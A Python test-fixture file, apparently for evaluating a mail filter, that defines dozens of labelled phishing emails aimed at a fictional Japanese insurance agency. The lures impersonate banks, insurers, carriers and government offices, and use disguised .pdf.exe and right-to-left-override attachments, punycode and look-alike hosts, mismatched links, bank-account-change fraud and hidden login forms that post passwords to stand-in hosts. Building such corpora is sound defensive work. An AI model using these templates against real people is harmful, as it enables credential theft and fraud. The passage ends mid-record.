# lures.py - the attack half of tests/evaluation/attack (read by gen.py)
#
# Each record is one inbound lure as targeted-attack mail to a Japanese
# insurance agency looks: a lure topic, a sender that is not who it claims,
# links that go elsewhere than they say, attachments that are programs.
# Every name, address, number and domain is invented except the brand
# names and brand domains that the look-alike hosts imitate.

import base64

from gen import Msg, Att

F, S, U, L = ("attack.freemail_sender", "attack.signature_mismatch",
              "attack.url_mismatch", "attack.lookalike_url")
K, C, T = ("attack.non_japanese_kanji", "attack.credential_request",
           "attack.theme")
X, D, R = "attach.executable", "attach.double_extension", "attach.rlo"
LS = "attack.lookalike_sender"

TANAKA = ("田中 一郎", "tanaka@sakura-hoken.example")
SATO = ("佐藤 美咲", "sato@sakura-hoken.example")
SUZUKI = ("鈴木 健太", "suzuki@sakura-hoken.example")
YAMAMOTO = ("山本 修", "yamamoto@sakura-hoken.example")
INFO = (None, "info@sakura-hoken.example")
EIGYO = (None, "eigyo@sakura-hoken.example")
KANRI = ("管理者", "kanri@sakura-hoken.example")

PUNY_MIZUHO = "mizuh\u043ebank".encode("idna").decode()      # Cyrillic o
PUNY_RAKUTEN = "r\u0430kuten-card".encode("idna").decode()   # Cyrillic a


def b64(t):
    return base64.b64encode(t.encode("utf-8")).decode("ascii")


def pct(t):
    return "".join("%%%02X" % c for c in t.encode("utf-8"))


def char_codes(t):
    return ",".join(str(ord(c)) for c in t)


# Login forms that lures hide from markup scanners (third round).
FORM_JA = ('<form method="post" action="https://seikyu-view-login.example/auth.php">'
           'メールアドレス <input type="email" name="m"><br>'
           'パスワード <input type="password" name="p"><br>'
           '<input type="submit" value="請求書を表示"></form>')
FORM_EN = ('<form method="post" action="https://docs-share-verify.example/s">'
           'Email <input name="e"> Password <input type="password" name="p">'
           '<button>View document</button></form>')


def lure(name, cats, frm, to, subject, **kw):
    return Msg(name, "lure", cats, frm, to, subject, **kw)


MESSAGES = [

# ---------------------------------------------------------------- themes, free mail, attachments

lure("lure-001-shuzai-gmail.eml", [F, S, T],
     ("月刊保険ジャーナル 編集部 高橋", "hoken.journal.takahashi@gmail.com"), [INFO],
     "取材のお願い（地域の保険代理店特集）",
     note="press interview request from gmail claiming a magazine; signature at the magazine's domain",
     attach=[Att("取材依頼書.docx", "docx",
                 "application/vnd.openxmlformats-officedocument.wordprocessingml.document")],
     text="""
     さくら保険サービス株式会社
     ご担当者様

     突然のご連絡失礼いたします。
     月刊保険ジャーナル編集部の高橋と申します。

     弊誌では次号にて「地域に根ざす保険代理店」特集を予定しており、
     貴社の取り組みをぜひご紹介させていただきたく、取材のお願いを
     差し上げました。

     取材の概要を添付の取材依頼書にまとめましたので、ご確認の上、
     ご都合のよい日時をお知らせいただけますと幸いです。

     何卒よろしくお願い申し上げます。

     --
     月刊保険ジャーナル 編集部
     記者 高橋 直人
     〒101-0047 東京都千代田区内神田9-8-7
     TEL 03-5555-0142
     E-mail: takahashi@hoken-journal.example
     """),

lure("lure-002-kouen-exe.eml", [F, T, X, D],
     ("全国中小企業経営者フォーラム 事務局", "keieisha.forum2025@yahoo.co.jp"), [TANAKA],
     "【講演依頼】リスクマネジメントセミナーご登壇のお願い",
     note="lecture request from yahoo with a pdf.exe attachment",
     attach=[Att("講演依頼書.pdf.exe", "exe", style="2047", charset="iso-2022-jp")],
     text="""
     田中 一郎 様

     全国中小企業経営者フォーラム事務局でございます。

     このたび、当フォーラム主催のリスクマネジメントセミナーにおいて、
     田中様に講演をお願いしたく、ご連絡いたしました。

     日時・会場・謝礼等の詳細は添付の講演依頼書をご覧ください。
     ファイルが開けない場合は、お手数ですが本メールにご返信ください。

     全国中小企業経営者フォーラム 事務局
     """),

lure("lure-003-rirekisho-zip-scr.eml", [F, T, X],
     ("佐々木 遥", "haruka.sasaki.0415@outlook.jp"), [INFO],
     "営業職への応募について（履歴書送付）",
     note="job application from outlook.jp, zip holding a .scr",
     attach=[Att("応募書類.zip", "zip", "application/zip",
                 inner=[("履歴書_佐々木遥.scr", "exe")])],
     text="""
     採用ご担当者様

     はじめまして。佐々木遥と申します。
     求人サイトにて貴社の営業職の募集を拝見し、応募いたしました。

     履歴書と職務経歴書を圧縮して添付いたしましたので、
     ご査収のほどよろしくお願いいたします。

     佐々木 遥
     """),

lure("lure-004-resume-en.eml", [F, T, X, D],
     ("Emily Carter", "emily.carter.jobs@gmail.com"), [INFO],
     "Application for Sales Assistant position - resume attached",
     charset="us-ascii",
     note="English job application, resume as pdf.exe",
     attach=[Att("Resume_Emily_Carter.pdf.exe", "exe", "application/pdf")],
     text="""
     Dear Hiring Manager,

     I am writing to apply for the Sales Assistant position advertised on
     your website. Please find my resume attached for your consideration.

     I look forward to hearing from you.

     Best regards,
     Emily Carter
     """),

lure("lure-005-toiawase-urlmismatch.eml", [F, T, U, L],
     ("東和損保 商品企画部", "towasonpo.shohin@hotmail.co.jp"), [EIGYO],
     "商品に関するお問い合わせへのご回答",
     charset="utf-8",
     note="product enquiry reply from hotmail; anchor shows the insurer's site, goes elsewhere",
     anchors=[("https://towa-sonpo.products-info.example/agency/faq?id=3381",
               "https://www.towa-sonpo.example/products/")],
     text="""
     さくら保険サービス株式会社 御中

     先日いただきました商品に関するお問い合わせにつきまして、
     回答を下記ページに掲載いたしました。

     https://www.towa-sonpo.example/products/ <https://towa-sonpo.products-info.example/agency/faq?id=3381>

     東和損害保険 商品企画部
     """,
     html_body="""
     <html><head><meta charset="UTF-8"></head><body>
     <p>さくら保険サービス株式会社 御中</p>
     <p>先日いただきました商品に関するお問い合わせにつきまして、<br>
     回答を下記ページに掲載いたしました。</p>
     <p>{a0}</p>
     <p>東和損害保険 商品企画部</p>
     </body></html>
     """),

lure("lure-006-claim-photo-scr.eml", [F, T, X, D],
     ("中村 誠", "m.nakamura.1972@icloud.com"), [SUZUKI],
     "先日の事故対応についてのクレーム",
     note="complaint from icloud with jpg.scr 'photos'",
     attach=[Att("事故現場写真.jpg.scr", "exe", "image/jpeg")],
     text="""
     担当者様

     先日の追突事故の件で連絡しました。
     御社の対応があまりにも遅く、納得できません。
     正式にクレームとして申し入れます。

     現場の写真を添付しますので、必ず確認して連絡をください。

     中村
     """),

lure("lure-007-enquete-urlmismatch.eml", [F, T, U],
     ("全国保険代理店協議会 調査部", "dairiten.kyogikai.chosa@gmail.com"), [INFO],
     "【ご協力のお願い】保険代理店の業務実態アンケート",
     charset="utf-8", cte="quoted-printable",
     note="survey from gmail claiming an association; URL text of the association, href elsewhere",
     anchors=[("https://enquete-form-service.example/f/kyogikai2025",
               "https://www.dairiten-kyokai.example/enquete"),
              ("https://enquete-form-service.example/f/kyogikai2025", "回答フォームを開く")],
     html_body="""
     <html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
     <body>
     <p>会員代理店 各位</p>
     <p>全国保険代理店協議会では、代理店業務の実態を把握するため、<br>
     アンケート調査を実施しております。</p>
     <p>回答ページ：{a0}</p>
     <p>{a1}（所要時間 約5分）</p>
     <p>回答期限：4月18日（金）</p>
     <p>全国保険代理店協議会 調査部</p>
     </body></html>
     """),

lure("lure-008-gijiroku-docx-exe.eml", [F, S, T, X, D],
     ("パートナー商事 鈴木", "suzuki.partnershoji@msn.com"), [SATO],
     "Re: 3月度 営業推進会議の議事録",
     note="minutes from msn.com posing as a partner; docx.exe; signature at the partner's domain",
     attach=[Att("議事録_0314.docx.exe", "exe")],
     text="""
     佐藤様

     いつもお世話になっております。パートナー商事の鈴木です。
     先日の営業推進会議の議事録をお送りします。
     社外秘のため、取り扱いにはご注意ください。

     ━━━━━━━━━━━━━━━━━━━━
     株式会社パートナー商事
     営業本部 鈴木 浩二
     TEL 03-5555-0187
     suzuki@partner-shoji.example
     ━━━━━━━━━━━━━━━━━━━━
     """),

lure("lure-009-vip-rlo.eml", [F, T, X, R],
     ("総務部 秘書課", "soumu.hisho.office@outlook.com"), [KANRI],
     "【社外秘】VIP訪問スケジュールのご確認",
     charset="utf-8",
     note="VIP visit schedule from outlook.com; file name with RLO hides .exe",
     attach=[Att("訪問日程表\u202excod.exe", "exe")],
     text="""
     関係者各位

     来週予定されているVIP訪問のスケジュールを添付いたします。
     社外秘につき、転送はご遠慮ください。
     内容に誤りがあれば本日中にご連絡ください。

     総務部 秘書課
     """),

lure("lure-010-npa-alert-lookalike.eml", [T, L],
     ("警察庁 サイバー警察局", "alert@cyber-keisatsu-center.example"), [INFO],
     "【警察庁】企業を狙ったサイバー攻撃に関する注意喚起",
     note="public-body security alert with a host that starts with npa.go.jp",
     text="""
     事業者各位

     現在、中小企業を狙ったサイバー攻撃が多発しております。
     被害の拡大を防ぐため、下記の注意喚起をご確認いただき、
     貴社端末の感染状況を確認ツールにて点検してください。

     https://www.npa.go.jp.cyber-alert.example/check/

     警察庁 サイバー警察局
     """),

lure("lure-011-kansensho-xls-exe.eml", [F, T, X, D],
     ("さくら区保健所 感染症対策課", "sakuraku.hokenjo@gmail.com"), [KANRI],
     "【至急】新型インフルエンザ感染拡大に伴う調査票の提出について",
     note="infection-outbreak notice from gmail posing as a health centre; xls.exe",
     attach=[Att("調査票.xls.exe", "exe", "application/vnd.ms-excel", style="2047",
                 charset="iso-2022-jp")],
     text="""
     事業所ご担当者様

     区内において新型インフルエンザの感染拡大が確認されております。
     つきましては、従業員の健康状況について、添付の調査票に
     ご記入のうえ、3日以内にご返信ください。

     さくら区保健所 感染症対策課
     """),

lure("lure-012-saigai-urlmismatch.eml", [T, U],
     ("防災情報ナビ", "info@bousai-navi.example"), [INFO],
     "【緊急】地震の災害情報と避難所のご案内",
     charset="utf-8",
     note="disaster information; anchor text shows a government site, href goes to the sender's site",
     anchors=[("https://bousai-navi.example/map?area=13", "https://www.bousai.go.jp/")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <h2>災害情報</h2>
     <p>本日未明に発生した地震により、一部地域で被害が確認されています。<br>
     最新の災害情報と避難所の地図は、内閣府の防災情報ページでご確認ください。</p>
     <p>{a0}</p>
     <p>防災情報ナビ 編集部</p>
     </body></html>
     """),

lure("lure-013-jinji-xlsx-exe.eml", [F, T, X, D],
     ("人事部", "jinjibu.sakura@outlook.jp"), [TANAKA, SATO, SUZUKI],
     "【社外秘】4月1日付 人事異動について",
     charset="shift_jis",
     note="personnel changes from outlook.jp posing as HR; xlsx.exe",
     attach=[Att("人事異動一覧.xlsx.exe", "exe")],
     text="""
     社員各位

     4月1日付の人事異動につきまして、一覧を添付いたします。
     正式発表前の情報ですので、取り扱いには十分ご注意ください。

     人事部
     """),

lure("lure-014-houshin-aioi.eml", [F, S, T, L],
     ("あいおいニッセイ同和損保 代理店推進部", "aioi.dairiten.suishin@gmail.com"), [TANAKA],
     "2025年度 事業方針説明会資料のご案内",
     note="business policy material from gmail claiming an insurer; link to a look-alike host",
     text="""
     代理店 各位

     平素より格別のご高配を賜り、厚く御礼申し上げます。
     2025年度の事業方針説明会の資料を下記に掲載いたしました。
     説明会前にご一読くださいますようお願い申し上げます。

     https://aioinissaydowa-agent.example/houshin/2025/

     ----------------------------------------
     あいおいニッセイ同和損害保険株式会社
     代理店推進部
     dairiten-suishin@aioinissaydowa.co.jp
     ----------------------------------------
     """),

lure("lure-015-saisou-typosquat.eml", [T, X, D, LS],
     ("パートナー商事 営業部", "eigyo@partner-shoj1.example"), [SATO],
     "Re: 資料の再送について",
     note="resend of material from a typo-squat of a partner domain; pdf.exe",
     attach=[Att("見積資料_最新版.pdf.exe", "exe", "application/pdf")],
     text="""
     佐藤様

     お世話になっております。
     先日お送りした資料に誤りがございましたので、再送いたします。
     お手数ですが、添付の最新版をご確認ください。

     --
     株式会社パートナー商事 営業部
     eigyo@partner-shoj1.example
     """),

lure("lure-016-sashikae-urlmismatch.eml", [T, U],
     ("パートナー商事 鈴木", "suzuki@partner-shoji.example"), [SATO],
     "【差し替え】お見積書の差し替えのお願い",
     charset="utf-8",
     note="spoofed partner; the document link shows the partner's URL, goes to a file-share host",
     anchors=[("https://file-transfer-box.example/d/8f2k1q",
               "https://www.partner-shoji.example/files/mitsumori_v2.pdf")],
     text="""
     佐藤様

     先日お送りしたお見積書に誤りがありましたので、差し替えをお願いいたします。
     最新版は以下からダウンロードできます。

     https://www.partner-shoji.example/files/mitsumori_v2.pdf <https://file-transfer-box.example/d/8f2k1q>

     パートナー商事 鈴木
     """,
     html_body="""
     <html><body>
     <p>佐藤様</p>
     <p>先日お送りしたお見積書に誤りがありましたので、差し替えをお願いいたします。<br>
     最新版は以下からダウンロードできます。</p>
     <p>{a0}</p>
     <p>パートナー商事 鈴木</p>
     </body></html>
     """),

lure("lure-017-eticket-en.eml", [T, X, D],
     ("Japan Airlines", "reservations@air-ticket-center.example"), [YAMAMOTO],
     "Your e-ticket receipt - booking confirmation JL0052",
     charset="us-ascii",
     note="unexpected flight booking in English; receipt as pdf.exe",
     attach=[Att("E-Ticket_Receipt_JL0052.pdf.exe", "exe")],
     text="""
     Dear Customer,

     Thank you for your booking. Your e-ticket receipt is attached.
     Flight: JL0052  Tokyo (HND) - London (LHR)
     Departure: 22 April 2025 11:30

     If you did not make this booking, please open the attached receipt
     and follow the cancellation instructions within 24 hours.

     Reservations Center
     """),

lure("lure-018-japanpost-redelivery.eml", [T, L, C],
     ("日本郵便", "no-reply@post-redelivery-center.example"), [INFO],
     "【日本郵便】お荷物のお届けについて（ご不在のため持ち戻りました）",
     charset="utf-8",
     note="Japan Post redelivery lure, brand as subdomain of another domain, asks for identity check",
     anchors=[("https://japanpost.redelivery-check.example/?id=JP88012345", "再配達のお申し込みはこちら")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>お客様宛のお荷物をお届けに参りましたが、ご不在のため持ち戻りました。</p>
     <p>お問い合わせ番号：8801-2345-6790</p>
     <p>再配達をご希望の場合は、本人確認のうえ下記よりお手続きください。<br>
     保管期限を過ぎますと差出人へ返送されます。</p>
     <p>{a0}</p>
     <p>日本郵便株式会社</p>
     </body></html>
     """),

lure("lure-019-yamato-lookalike.eml", [T, L],
     ("ヤマト運輸", "info@kuroneko-notice.example"), [SUZUKI],
     "ヤマト運輸 お荷物お届けのお知らせ",
     charset="shift_jis",
     note="Yamato delivery lure; real domain followed by another domain",
     text="""
     お荷物のお届けについてお知らせします。

     お届け予定日時：本日 14時〜16時
     下記URLより配達状況をご確認ください。

     http://kuronekoyamato.co.jp.delivery-info.example/track?no=4412-8890-1357

     ヤマト運輸株式会社
     """),

lure("lure-020-sagawa-icloud.eml", [F, T, L],
     ("佐川急便", "sagawa.fuzai.renraku@icloud.com"), [INFO],
     "佐川急便 不在連絡票のお知らせ",
     note="Sagawa absence notice from icloud; look-alike redelivery host",
     text="""
     お荷物をお届けにあがりましたが、ご不在でした。
     再配達のご依頼は下記よりお願いいたします。

     https://sagawa-exp.jp-redelivery.example/

     佐川急便株式会社
     """),

lure("lure-021-amazon-en.eml", [T, U, L, C],
     ("Amazon.co.jp", "order-update@amazon-shipping-notice.example"), [YAMAMOTO],
     "Action required: your Amazon.co.jp order could not be shipped",
     charset="utf-8", cte="quoted-printable",
     note="Amazon lure in English: anchor shows amazon.co.jp, href to amazon-co-jp.* host, sign-in request",
     anchors=[("https://amazon-co-jp.account-update.example/signin?ref=ord",
               "https://www.amazon.co.jp/gp/css/order-history")],
     text="""
     Hello,

     We were unable to process the delivery of your recent order because
     the payment information on your account has expired.
     Please sign in to your account to update your payment details:

     https://www.amazon.co.jp/gp/css/order-history <https://amazon-co-jp.account-update.example/signin?ref=ord>

     If your information is not updated within 48 hours, the order will be cancelled.

     Amazon.co.jp Customer Service
     """,
     html_body="""
     <html><body>
     <p>Hello,</p>
     <p>We were unable to process the delivery of your recent order because
     the payment information on your account has expired.<br>
     Please sign in to your account to update your payment details:</p>
     <p>{a0}</p>
     <p>If your information is not updated within 48 hours, the order will be cancelled.</p>
     <p>Amazon.co.jp Customer Service</p>
     </body></html>
     """),

lure("lure-022-invoice-scr-en.eml", [F, T, X, D],
     ("Accounts Receivable", "accounts.receivable.dept@gmail.com"), [INFO],
     "Invoice INV-20250312 - payment overdue",
     charset="us-ascii",
     note="overdue invoice from gmail, pdf.scr",
     attach=[Att("INV-20250312.pdf.scr", "exe")],
     text="""
     Dear Sir/Madam,

     Our records show that invoice INV-20250312 is now 30 days past due.
     Please review the attached invoice and arrange the transfer today.

     Regards,
     Accounts Receivable
     """),

lure("lure-023-seikyusho-gmail.eml", [F, S, T],
     ("株式会社ミライOA 経理部", "miraioa.keiri@gmail.com"), [INFO],
     "3月分 請求書送付のご案内（振込先変更あり）",
     note="invoice from gmail in the name of a known vendor; signature at the vendor's domain",
     text="""
     さくら保険サービス株式会社
     経理ご担当者様

     いつもお世話になっております。株式会社ミライOAでございます。
     3月分の請求書をお送りいたします。
     なお、今月より振込先口座が変更となっておりますのでご注意ください。
     新しい口座情報は本メールへご返信いただいた方にのみご案内しております。

     ---------------------------------
     株式会社ミライOA 経理部
     TEL 03-5555-0230
     keiri@mirai-oa.example
     ---------------------------------
     """),

lure("lure-024-bec-replyto.eml", [S, T],
     ("パートナー商事 経理部", "keiri@partner-shoji.example"), [INFO],
     "【重要】振込先口座変更のお願い",
     charset="iso-2022-jp",
     reply_to=(None, "partner.shoji.keiri@outlook.com"),
     note="spoofed partner asking to change the bank account; Reply-To at free mail",
     text="""
     さくら保険サービス株式会社
     経理ご担当者様

     平素は格別のお引き立てを賜り、誠にありがとうございます。
     この度、弊社の取引銀行の変更に伴い、振込先口座を変更いたします。
     新しい振込先は別途ご案内いたしますので、本メールにご返信ください。
     なお、本件は社内監査中のため、お電話でのお問い合わせはご遠慮ください。

     株式会社パートナー商事 経理部
     """),

lure("lure-025-nta-minou.eml", [T, L, C],
     ("国税庁", "info@nta-tax-notice.example"), [KANRI],
     "【国税庁】未納税金のお知らせ（最終催告）",
     charset="utf-8",
     note="tax-office lure: real domain as prefix of another domain, asks for card details",
     text="""
     納税者 各位

     貴殿の未納税金について、納付期限を過ぎても確認できておりません。
     本日中に下記ページにて本人確認のうえ、カード情報を入力して
     お支払い手続きを完了してください。
     期限を過ぎた場合、財産差押えの手続きを開始いたします。

     https://www.nta.go.jp.tax-payment.example/kakunin/

     国税庁 徴収部
     """),

lure("lure-026-etax-login.eml", [L, C],
     ("e-Tax ヘルプデスク", "helpdesk@etax-support-center.example"), [KANRI],
     "【e-Tax】利用者識別番号の確認のお願い",
     charset="utf-8",
     note="e-Tax ID/password request, link text is not a URL",
     anchors=[("https://e-tax-nta.example/login", "e-Taxにログイン")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>e-Tax をご利用の皆様</p>
     <p>システム更新に伴い、利用者識別番号の確認が必要となりました。<br>
     下記より、ID・パスワードを入力して確認を完了してください。</p>
     <p>{a0}</p>
     <p>確認が完了しない場合、電子申告がご利用いただけなくなります。</p>
     <p>e-Tax ヘルプデスク</p>
     </body></html>
     """),

lure("lure-027-mynaportal.eml", [L, C],
     ("マイナポータル", "support@myna-point-info.example"), [SATO],
     "【マイナポータル】マイナポイント付与手続きのお知らせ",
     charset="iso-2022-jp",
     note="Mynaportal point lure, asks for the card PIN",
     text="""
     マイナポイントの付与手続きが完了していません。
     下記ページでマイナンバーカードの暗証番号を入力し、
     手続きを完了してください。

     https://myna-portal.point-kakunin.example/

     マイナポータル運営事務局
     """),

lure("lure-028-mufg-kochira.eml", [L, C, T],
     ("三菱UFJ銀行", "info@mufg-customer-center.example"), [KANRI],
     "【三菱UFJ銀行】お客さま情報確認のお願い",
     charset="utf-8",
     note="MUFG lure; anchor text こちら (no URL mismatch), href mufg-login.*",
     anchors=[("https://mufg-login.example/direct/kakunin", "こちら")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>いつも三菱UFJ銀行をご利用いただき、ありがとうございます。</p>
     <p>お客さまの口座で不審な取引が検知されたため、お取引を一部制限しております。<br>
     制限を解除するには、{a0}からログインして、お客さま情報をご確認ください。</p>
     <p>株式会社三菱UFJ銀行</p>
     </body></html>
     """),

lure("lure-029-smbc-urlmismatch.eml", [U, L, C, T],
     ("三井住友銀行", "information@smbc.co.jp"), [KANRI],
     "【三井住友銀行】お取引制限のお知らせ",
     charset="utf-8",
     note="spoofed From at the real bank; anchor shows www.smbc.co.jp, href smbc.co.jp.<other>",
     anchors=[("https://smbc.co.jp.secure-verify.example/login", "https://www.smbc.co.jp/")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>三井住友銀行をご利用いただきありがとうございます。</p>
     <p>お客様の口座について、第三者による不正利用の可能性があるため、
     お取引を制限させていただきました。<br>
     下記よりログインして、ご本人様の取引であるかご確認ください。</p>
     <p>{a0}</p>
     <p>株式会社三井住友銀行</p>
     </body></html>
     """),

lure("lure-030-mizuho-punycode.eml", [L, C],
     ("みずほ銀行", "notice@mizuho-direct-info.example"), [KANRI],
     "【みずほ銀行】みずほダイレクト ご利用確認",
     charset="utf-8", cte="base64",
     note="punycode homograph (Cyrillic o) of mizuhobank.co.jp",
     text="""
     みずほダイレクトをご利用のお客さま

     お客さまのアカウント情報の確認が必要です。
     下記URLよりログインの上、お手続きください。

     https://www.%s.co.jp/direct/kakunin

     株式会社みずほ銀行
     """ % PUNY_MIZUHO),

lure("lure-031-rakuten-ip.eml", [L, C, T],
     ("楽天カード", "info@rakuten-card-notice.example"), [SUZUKI],
     "【楽天カード】カードご利用確認のお願い",
     charset="utf-8",
     note="Rakuten Card lure linking to a raw IPv4 host",
     anchors=[("http://198.51.100.23/rakuten-card/login.php", "楽天e-NAVIにログイン")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>楽天カードをご利用いただきありがとうございます。</p>
     <p>第三者による不正利用の疑いがあるお取引を検知しました。<br>
     下記よりパスワードを入力して、ご利用内容をご確認ください。</p>
     <p>{a0}</p>
     <p>楽天カード株式会社</p>
     </body></html>
     """),

lure("lure-032-docomo-hanzi.eml", [K, L, C, T],
     ("NTTドコモ", "billing@docomo-payment-info.example"), [SATO],
     "【ドコモ】ご利用料金のお支払い确认のお願い",
     charset="utf-8",
     note="docomo billing lure with simplified hanzi (machine translation)",
     text="""
     お客様へ

     ご利用料金のお支払いが确认できませんでした。
     请下记のリンクから账户にログインして、お支払い情报を更新してください。
     24时间以内に更新されない场合、回线を停止します。

     https://docomo-verify.example/billing/update

     NTTドコモ お客様センター
     """),

lure("lure-033-au-kddi.eml", [L, C],
     ("au お客さまセンター", "info@au-billing-center.example"), [YAMAMOTO],
     "【au】ご請求金額確定のお知らせ（お支払い方法の確認）",
     charset="iso-2022-jp",
     note="au lure asking for au ID and password",
     text="""
     いつもauをご利用いただきありがとうございます。
     今月のご請求金額が確定しましたが、お支払い方法の確認が取れませんでした。

     下記ページにてau IDとパスワードを入力し、お支払い方法をご確認ください。
     https://au-kddi-support.example/billing/check

     KDDI株式会社
     """),

lure("lure-034-softbank-urlmismatch.eml", [U, L, C],
     ("SoftBank", "no-reply@mysoftbank-notice.example"), [TANAKA],
     "【My SoftBank】ログイン認証のお願い",
     charset="utf-8",
     note="anchor shows my.softbank.jp, href softbank-mysecure.*",
     anchors=[("https://softbank-mysecure.example/auth?sid=77120", "https://my.softbank.jp/")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>My SoftBank をご利用のお客さま</p>
     <p>セキュリティ強化のため、ログイン認証の再設定が必要です。<br>
     下記URLからパスワードを入力し、認証を完了してください。</p>
     <p>{a0}</p>
     <p>ソフトバンク株式会社</p>
     </body></html>
     """),

lure("lure-035-quota-owa-en.eml", [U, L, C, LS, T],
     ("IT Helpdesk", "helpdesk@sakura-hoken-mail.example"), [TANAKA],
     "Mailbox quota exceeded - action required",
     charset="us-ascii",
     note="mailbox over quota in English; anchor shows the firm's webmail, href a look-alike of the firm",
     anchors=[("https://sakura-hoken-mail.example/owa/auth.php",
               "https://mail.sakura-hoken.example/owa")],
     html_body="""
     <html><body>
     <p>Dear user,</p>
     <p>Your mailbox quota has been exceeded (2048 MB / 2048 MB).<br>
     New messages will be rejected until you sign in to the web portal and
     verify your account.</p>
     <p>{a0}</p>
     <p>IT Helpdesk</p>
     </body></html>
     """),

lure("lure-036-quota-ja-ip.eml", [F, L, C, T],
     ("システム管理者", "system.kanrisha.mail@outlook.com"), [SATO],
     "【システム管理者】メールボックスの容量が上限に達しました",
     charset="iso-2022-jp",
     note="mailbox over quota from outlook.com; こちら links to a raw IPv4 host",
     anchors=[("http://203.0.113.7/owa/", "こちら")],
     html_body="""
     <html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-2022-JP"></head>
     <body>
     <p>メールボックスの容量が上限に達しました。</p>
     <p>このままでは新しいメールを受信できません。<br>
     {a0}からIDとパスワードでログインし、容量を拡張してください。</p>
     <p>システム管理者</p>
     </body></html>
     """),

lure("lure-037-yucho-kouza.eml", [L, C],
     ("ゆうちょ銀行", "info@yucho-direct-notice.example"), [KANRI],
     "【ゆうちょ銀行】口座情報の確認のお願い",
     charset="shift_jis",
     note="bank registration check: jp-bank.japanpost.jp followed by another domain",
     text="""
     ゆうちょダイレクトをご利用のお客さまへ

     マネー・ローンダリング対策の一環として、口座情報の確認をお願いしております。
     下記ページより必要事項をご入力ください。

     https://jp-bank.japanpost.jp.kakunin-center.example/

     株式会社ゆうちょ銀行
     """),

lure("lure-038-tokiomarine-agent.eml", [L, C, T],
     ("東京海上日動 代理店システム", "system@tokiomarine-agency-info.example"), [TANAKA],
     "【東京海上日動】代理店システム パスワード有効期限のお知らせ",
     charset="iso-2022-jp",
     note="agency-system password expiry lure aimed at insurance agencies",
     text="""
     代理店 各位

     代理店システムのパスワード有効期限が近づいております。
     有効期限：2025年4月30日

     下記ページにて、現在のIDとパスワードでログインし、
     パスワードの更新をお願いいたします。

     https://tokiomarine-nichido.agent-login.example/

     東京海上日動火災保険株式会社 代理店システム担当
     """),

lure("lure-039-sompo-pdf-exe.eml", [F, X, D],
     ("損保ジャパン 代理店サポートデスク", "sompo.dairiten.support@gmail.com"), [TANAKA],
     "代理店様向け 重要なお知らせ",
     charset="iso-2022-jp",
     note="gmail claiming an insurer's agency desk, pdf.exe",
     attach=[Att("重要なお知らせ.pdf.exe", "exe", style="2047", charset="iso-2022-jp")],
     text="""
     代理店 各位

     代理店手数料の算定方法の変更について、添付のとおりお知らせいたします。
     必ずご一読ください。

     損害保険ジャパン株式会社 代理店サポートデスク
     """),

lure("lure-040-msins-urlmismatch.eml", [U, L, C],
     ("三井住友海上 代理店サポート", "support@msins-agency-notice.example"), [TANAKA],
     "【三井住友海上】事故受付システムのメンテナンスについて",
     charset="iso-2022-jp",
     note="anchor shows www.ms-ins.com, href ms-ins.co-jp.*",
     anchors=[("https://ms-ins.co-jp.example/agency/login", "https://www.ms-ins.com/")],
     html_body="""
     <html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-2022-JP"></head>
     <body>
     <p>代理店 各位</p>
     <p>事故受付システムのメンテナンスに伴い、アカウント情報の確認をお願いしております。<br>
     下記よりログインして、登録内容をご確認ください。</p>
     <p>{a0}</p>
     <p>三井住友海上火災保険株式会社</p>
     </body></html>
     """),

lure("lure-041-nissay-sig.eml", [F, S, L, C],
     ("日本生命保険相互会社", "nissay.keiyaku.center@outlook.jp"), [SATO],
     "【日本生命】ご契約内容確認のお願い",
     charset="iso-2022-jp",
     note="outlook.jp claiming Nippon Life; signature address at the real domain; look-alike link",
     text="""
     ご契約者様

     平素は日本生命をご愛顧いただき、誠にありがとうございます。
     ご契約内容の定期確認のため、下記ページにて本人確認をお願いいたします。

     https://nissay-keiyaku.example/kakunin

     ----------------------------------
     日本生命保険相互会社 契約センター
     keiyaku-center@nissay.co.jp
     ----------------------------------
     """),

lure("lure-042-daiichi-hanzi.eml", [K, L, C, T],
     ("第一生命", "info@daiichi-customer-center.example"), [SATO],
     "第一生命 お客さま情报更新のお願い",
     charset="utf-8",
     note="Dai-ichi Life lure with simplified hanzi; look-alike host",
     text="""
     お客さまへ

     系统の更新に伴い、お客さまの情报を确认する必要があります。
     请以下のリンクから登录して、ご契約情报を更新してください。

     https://dai-ichi-life.jp-kakunin.example/update

     第一生命保険株式会社
     """),

lure("lure-043-jcb-traditional.eml", [K, L, C, T],
     ("MyJCB", "info@myjcb-notice.example"), [YAMAMOTO],
     "【MyJCB】カードご利用確認のお知らせ",
     charset="utf-8",
     note="JCB lure with traditional-only forms (帳戶 說明 內容); look-alike host",
     text="""
     JCBカード会員様

     お客様の帳戶で不審なご利用が確認されました。
     詳細な說明と利用內容は下記ページでご確認ください。
     ご確認には、カード情報を入力していただく必要があります。

     https://myjcb-secure.example/confirm

     株式会社ジェーシービー
     """),

lure("lure-044-aeon-card.eml", [L, C, T],
     ("イオンカード", "info@aeon-card-center.example"), [SUZUKI],
     "【イオンカード】不正利用の疑いがあるお取引について",
     charset="utf-8",
     note="AEON card lure, brand glued to -secure",
     text="""
     イオンカードをご利用のお客さま

     お客さまのカードで不正利用の疑いがあるお取引を検知しました。
     下記より本人確認を行ってください。

     https://aeon-card-secure.example/verify

     イオンクレジットサービス
     """),

lure("lure-045-orico-urlmismatch.eml", [U, L, C],
     ("オリコ", "info@orico-meisai-notice.example"), [SUZUKI],
     "【オリコ】ご利用明細のご確認",
     charset="utf-8",
     note="anchor text www.orico.co.jp (bare domain), href orico-meisai.*",
     anchors=[("https://orico-meisai.example/login", "www.orico.co.jp")],
     html_body="""
     <html><head><meta charset="utf-8"></head><body>
     <p>オリコカードをご利用いただきありがとうございます。</p>
     <p>今月のご利用明細を確定いたしました。<br>
     eオリコサービス（{a0}）にログインして、ご利用内容をご確認ください。</p>
     <p>株式会社オリエントコーポレーション</p>
     </body></html>
     """),

lure("lure-046-saison-3ds.eml", [L, C, T],
     ("セゾンカード", "info@saison-card-notice.example"), [YAMAMOTO],
